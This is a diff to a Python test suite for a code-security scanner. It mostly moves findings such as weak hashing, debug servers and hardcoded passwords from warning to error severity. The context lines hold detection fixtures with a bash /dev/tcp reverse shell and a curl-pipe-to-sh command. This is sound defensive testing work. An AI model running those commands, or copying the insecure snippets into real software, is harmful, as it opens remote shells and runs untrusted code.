@@ -63,6 +63,14 @@ def broken(code: str, severity: Severity = Severity.INFO) -> set[str]:
         ("import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)", "reverse-shell"),
         ("import os\nos.system('curl -s https://a.example/b | sh')", "shell-pipe-to-shell"),
         ("import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')", "reverse-shell"),
+        ("hashlib.md5(data)", "weak-hash"),
+        ("hashlib.new('sha1', data)", "weak-hash-by-name"),
+        ("tarfile.open(f).extractall(path)", "archive-extract"),
+        ("app.run(debug=True)", "debug-server"),
+        ("os.chmod(p, 0o777)", "world-writable"),
+        ("connect(password='hunter')", "hardcoded-password"),
+        ("import random\ntoken = ''.join(random.choice(chars) for _ in range(20))", "predictable-secret"),
+        ("from random import randint\nself.reset_token = randint(0, 9999)", "predictable-secret"),
     ],
 )
 def test_an_error_is_found_through_aliases_and_spellings(code: str, rule: str):
@@ -74,16 +82,10 @@ def test_an_error_is_found_through_aliases_and_spellings(code: str, rule: str):
     [
         ("import os\nos.system('ls')", "command-constant"),
         ("subprocess.call('ls', shell=True)", "subprocess-shell-constant"),
-        ("hashlib.md5(data)", "weak-hash"),
-        ("hashlib.new('sha1', data)", "weak-hash-by-name"),
         ("random.choice(chars)", "predictable-random"),
         ("tempfile.mktemp()", "temporary-name"),
         ("import xml.etree.ElementTree as E\nE.parse(f)", "xml-entities"),
-        ("tarfile.open(f).extractall(path)", "archive-extract"),
-        ("app.run(debug=True)", "debug-server"),
         ("torch.load(f)", "torch-load"),
-        ("os.chmod(p, 0o777)", "world-writable"),
-        ("connect(password='hunter')", "hardcoded-password"),
     ],
 )
 def test_a_warning_is_found(code: str, rule: str):
@@ -162,20 +164,20 @@ def test_issues_carry_line_and_cwe():
 
 
 async def test_block_at_decides_what_is_flagged():
-    code = "import hashlib\nhashlib.md5(x)"
+    code = "import random\nrandom.choice(x)"
 
     assert not (await judged(code)).flagged
     assert (await judged(code, block_at="warning")).flagged
 
 
 async def test_a_verdict_names_the_worst_cwe_and_marks_the_lines():
-    code = "import hashlib, os\nhashlib.md5(x)\nos.system(cmd)"
+    code = "import os, random\nrandom.choice(x)\nos.system(cmd)"
 
     verdict = await judged(code, block_at="warning")
 
     assert verdict.category == "CWE-78"
     assert [code[finding.start : finding.end] for finding in verdict.findings] == [
-        "hashlib.md5(x)",
+        "random.choice(x)",
         "os.system(cmd)",
     ]
 
@@ -209,7 +211,7 @@ async def test_languages_without_rules_are_reported_as_unanalysed():
     verdict = await judged("EVALUATE data", language="cobol")
 
     assert not verdict.flagged
-    assert verdict.category == "unanalysed"
+    assert (verdict.category, verdict.judged) == ("unanalysed", False)
     assert "cobol" in (verdict.reason or "")
 
 
